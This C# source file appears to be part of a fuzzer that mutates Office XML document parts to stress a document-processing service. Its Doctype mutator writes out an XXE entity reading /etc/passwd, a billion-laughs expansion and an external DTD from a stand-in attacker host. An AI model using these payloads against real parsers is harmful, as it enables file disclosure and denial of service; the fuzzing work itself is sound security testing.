using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;

namespace OfficeDx.Fuzz.Mutators;

/// <summary>
/// Mutations of one XML part, by what the readers depend on: nesting depth, attribute and text size, row and cell references,
/// numbers, content-control tags, the profile a document names, entities, and plain damage (truncation, stray characters).
/// </summary>
public static partial class XmlMutator
{
    private static readonly int[] Depths = [64, 1_000, 10_000, 30_000, 100_000];

    /// <summary>Mutates <paramref name="xml"/> (the text of <paramref name="part"/>) and names what was done.</summary>
    public static (string Xml, string Mutation) Mutate(string xml, string part, Random random)
    {
        var choices = new List<Func<(string, string)>>
        {
            () => DeepNesting(xml, part, random),
            () => HugeAttribute(xml, random),
            () => HugeText(xml, random),
            () => Numbers(xml, random),
            () => Structure(xml, random),
            () => Structure(xml, random),
            () => AttributeValue(xml, random),
            () => Truncate(xml, random),
            () => StrayCharacters(xml, random),
            () => Doctype(xml, random),
            () => Encoding(xml, random),
        };
        if (part.Contains("worksheets/", StringComparison.Ordinal))
        {
            choices.Add(() => Replace(xml, RowReference(), Extremes.RowNumbers, random, "row-r"));
            choices.Add(() => Replace(xml, RowReference(), Extremes.RowNumbers, random, "row-r"));
            choices.Add(() => Replace(xml, CellReference(), Extremes.CellReferences, random, "cell-ref"));
            choices.Add(() => Replace(xml, CellReference(), Extremes.CellReferences, random, "cell-ref"));
        }
        if (xml.Contains("w:tag ", StringComparison.Ordinal))
        {
            choices.Add(() => Replace(xml, TagValue(), Extremes.TagSuffixes, random, "sdt-tag"));
            choices.Add(() => Replace(xml, TagValue(), Extremes.TagSuffixes, random, "sdt-tag"));
        }
        if (xml.Contains("odx:profile", StringComparison.Ordinal) || xml.Contains("odx:", StringComparison.Ordinal) && part.Contains("custom", StringComparison.Ordinal))
        {
            choices.Add(() => Replace(xml, PropertyValue(), Extremes.ProfileNames, random, "custom-property"));
            choices.Add(() => Replace(xml, PropertyValue(), Extremes.ProfileNames, random, "custom-property"));
        }
        if (xml.Contains("年度", StringComparison.Ordinal)) choices.Add(() => Replace(xml, YearText(), Extremes.Years, random, "year-text"));
        return random.Pick(choices)();
    }

    private static (string, string) DeepNesting(string xml, string part, Random random)
    {
        var depth = random.Pick(Depths);
        var (open, close, anchor) = xml.Contains("<w:body>", StringComparison.Ordinal) && random.Next(3) > 0
            ? random.Next(2) == 0 ? ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", "<w:body>") : ("<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>", "<w:body>")
            : ("<n>", "</n>", null);
        var at = anchor is not null && xml.IndexOf(anchor, StringComparison.Ordinal) is var a and >= 0 ? a + anchor.Length : AfterRootStart(xml);
        if (at < 0) return (xml, "deep-nesting(no root)");
        var builder = new StringBuilder(xml.Length + depth * (open.Length + close.Length));
        builder.Append(xml, 0, at);
        for (var i = 0; i < depth; i++) builder.Append(open);
        for (var i = 0; i < depth; i++) builder.Append(close);
        builder.Append(xml, at, xml.Length - at);
        return (builder.ToString(), $"deep-nesting({depth})");
    }

    private static (string, string) HugeAttribute(string xml, Random random)
    {
        var starts = StartTag().Matches(xml);
        if (starts.Count == 0) return (xml, "huge-attribute(none)");
        var tag = starts[random.Next(starts.Count)];
        var size = random.Next(2) == 0 ? 100_000 : 4_000_000;
        var at = tag.Index + tag.Length;
        return (xml[..at] + $" fuzz=\"{new string('A', size)}\"" + xml[at..], $"huge-attribute({size})");
    }

    private static (string, string) HugeText(string xml, Random random)
    {
        var texts = TextNode().Matches(xml);
        if (texts.Count == 0) return (xml, "huge-text(none)");
        var text = texts[random.Next(texts.Count)].Groups[1];
        var replacement = Extremes.LongText(random);
        return (xml[..text.Index] + replacement + xml[(text.Index + text.Length)..], $"huge-text({replacement.Length})");
    }

    private static (string, string) Numbers(string xml, Random random)
    {
        var numbers = NumberValue().Matches(xml);
        if (numbers.Count == 0) return (xml, "numbers(none)");
        var all = random.Next(4) == 0;
        var value = random.Pick(Extremes.Numbers);
        if (all) return (NumberValue().Replace(xml, m => m.Value[0] + value + m.Value[^1]), $"numbers(all {value})");
        var number = numbers[random.Next(numbers.Count)];
        return (xml[..(number.Index + 1)] + value + xml[(number.Index + number.Length - 1)..], $"number({value})");
    }

    private static (string, string) Replace(string xml, Regex pattern, IReadOnlyList<string> values, Random random, string name)
    {
        var matches = pattern.Matches(xml);
        if (matches.Count == 0) return (xml, name + "(none)");
        var match = matches[random.Next(matches.Count)].Groups[1];
        var value = random.Pick(values);
        if (name == "sdt-tag" && value.Length > 0 && !value.StartsWith("odx:", StringComparison.Ordinal)) value = match.Value + value;
        return (xml[..match.Index] + System.Security.SecurityElement.Escape(value) + xml[(match.Index + match.Length)..], $"{name}({Short(value)})");
    }

    /// <summary>Element-level edits on the parsed part: drop, repeat, move or empty one element.</summary>
    private static (string, string) Structure(string xml, Random random)
    {
        XDocument document;
        try
        {
            document = XDocument.Parse(xml, LoadOptions.PreserveWhitespace);
        }
        catch (System.Xml.XmlException)
        {
            return Truncate(xml, random);
        }
        var elements = document.Root!.Descendants().ToList();
        if (elements.Count == 0) return Truncate(xml, random);
        var element = random.Pick(elements);
        string what;
        switch (random.Next(5))
        {
            case 0:
                element.Remove();
                what = "drop-element";
                break;
            case 1:
                // Capped: 2,631 copies of a 33 KB table made an 87 MB fragment, and the fuzzer ran out of memory turning it into a
                // request body (the service answered it 413 in 0.2 s). 24 MB is still past the service's 10 MB limit.
                var copies = RepeatBudget.Copies(random.Next(2) == 0 ? random.Next(2, 5) : random.Next(100, 3_000), System.Text.Encoding.UTF8.GetByteCount(element.ToString(SaveOptions.DisableFormatting)));
                for (var i = 0; i < copies; i++) element.AddAfterSelf(new XElement(element));
                what = $"repeat-element(x{copies})";
                break;
            case 2:
                element.RemoveNodes();
                what = "empty-element";
                break;
            case 3:
                var target = random.Pick(elements);
                if (target == element || target.Ancestors().Contains(element)) goto case 0;
                element.Remove();
                target.Add(element);
                what = "move-element";
                break;
            default:
                element.RemoveAttributes();
                what = "strip-attributes";
                break;
        }
        return (document.Declaration + document.ToString(SaveOptions.DisableFormatting), $"{what}({element.Name.LocalName})");
    }

    private static (string, string) AttributeValue(string xml, Random random)
    {
        var attributes = AttributeText().Matches(xml);
        if (attributes.Count == 0) return (xml, "attribute(none)");
        var attribute = attributes[random.Next(attributes.Count)].Groups[1];
        var pool = random.Next(3) switch { 0 => Extremes.Numbers, 1 => Extremes.TagSuffixes, _ => Extremes.ProfileNames };
        var value = random.Pick(pool);
        return (xml[..attribute.Index] + System.Security.SecurityElement.Escape(value) + xml[(attribute.Index + attribute.Length)..], $"attribute({Short(value)})");
    }

    private static (string, string) Truncate(string xml, Random random)
    {
        var at = random.Next(xml.Length + 1);
        return (xml[..at], $"truncate-xml({at})");
    }

    private static (string, string) StrayCharacters(string xml, Random random)
    {
        string[] strays = ["<", ">", "&", "&bogus;", "&#0;", "&#xD800;", "\u0000", "\u0001", "]]>", "<!--", "<?", "</x>", "\"", "\uFFFF", "<![CDATA["];
        var builder = new StringBuilder(xml);
        var count = random.Next(1, 4);
        for (var i = 0; i < count; i++) builder.Insert(random.Next(builder.Length + 1), random.Pick(strays));
        return (builder.ToString(), $"stray-characters({count})");
    }

    private static (string, string) Doctype(string xml, Random random)
    {
        var root = RootName().Match(xml);
        var name = root.Success ? root.Groups[1].Value : "x";
        var doctype = random.Next(3) switch
        {
            0 => $"<!DOCTYPE {name} [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
            1 => $"<!DOCTYPE {name} [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]>",
            _ => $"<!DOCTYPE {name} SYSTEM \"http://attacker.example/x.dtd\">",
        };
        var at = xml.StartsWith("<?xml", StringComparison.Ordinal) ? xml.IndexOf("?>", StringComparison.Ordinal) + 2 : 0;
        var withEntity = TextNode().Match(xml) is { Success: true } text ? xml[..text.Groups[1].Index] + "&e;" + xml[text.Groups[1].Index..] : xml;
        return (xml[..at] + doctype + withEntity[at..], "doctype");
    }

    private static (string, string) Encoding(string xml, Random random)
    {
        var declaration = random.Pick(new[] { "<?xml version=\"1.0\" encoding=\"UTF-16\"?>", "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>", "<?xml version=\"9.9\"?>", "\uFEFF\uFEFF", "" });
        var body = xml.StartsWith("<?xml", StringComparison.Ordinal) ? xml[(xml.IndexOf("?>", StringComparison.Ordinal) + 2)..] : xml;
        return (declaration + body, "xml-declaration");
    }

    private static int AfterRootStart(string xml)
    {
        var root = RootName().Match(xml);
        return root.Success ? xml.IndexOf('>', root.Index) + 1 : -1;
    }

    private static string Short(string value) => value.Length > 40 ? value[..40] + "…" : value;

    [GeneratedRegex(@"<[A-Za-z][\w:.-]*")]
    private static partial Regex StartTag();

    [GeneratedRegex(@">([^<>]+)<")]
    private static partial Regex TextNode();

    [GeneratedRegex(@"[>""]-?\d+(?:\.\d+)?[<""]")]
    private static partial Regex NumberValue();

    [GeneratedRegex(@"<(?:\w+:)?row\b[^>]*\br=""([^""]*)""")]
    private static partial Regex RowReference();

    [GeneratedRegex(@"<(?:\w+:)?c\b[^>]*\br=""([^""]*)""")]
    private static partial Regex CellReference();

    [GeneratedRegex(@"<w:tag w:val=""([^""]*)""")]
    private static partial Regex TagValue();

    [GeneratedRegex(@"<vt:lpwstr>([^<]*)</vt:lpwstr>")]
    private static partial Regex PropertyValue();

    [GeneratedRegex(@">([^<>]*年度[^<>]*)<")]
    private static partial Regex YearText();

    [GeneratedRegex(@"\s[\w:]+=""([^""]*)""")]
    private static partial Regex AttributeText();

    [GeneratedRegex(@"<([A-Za-z][\w:.-]*)")]
    private static partial Regex RootName();
}
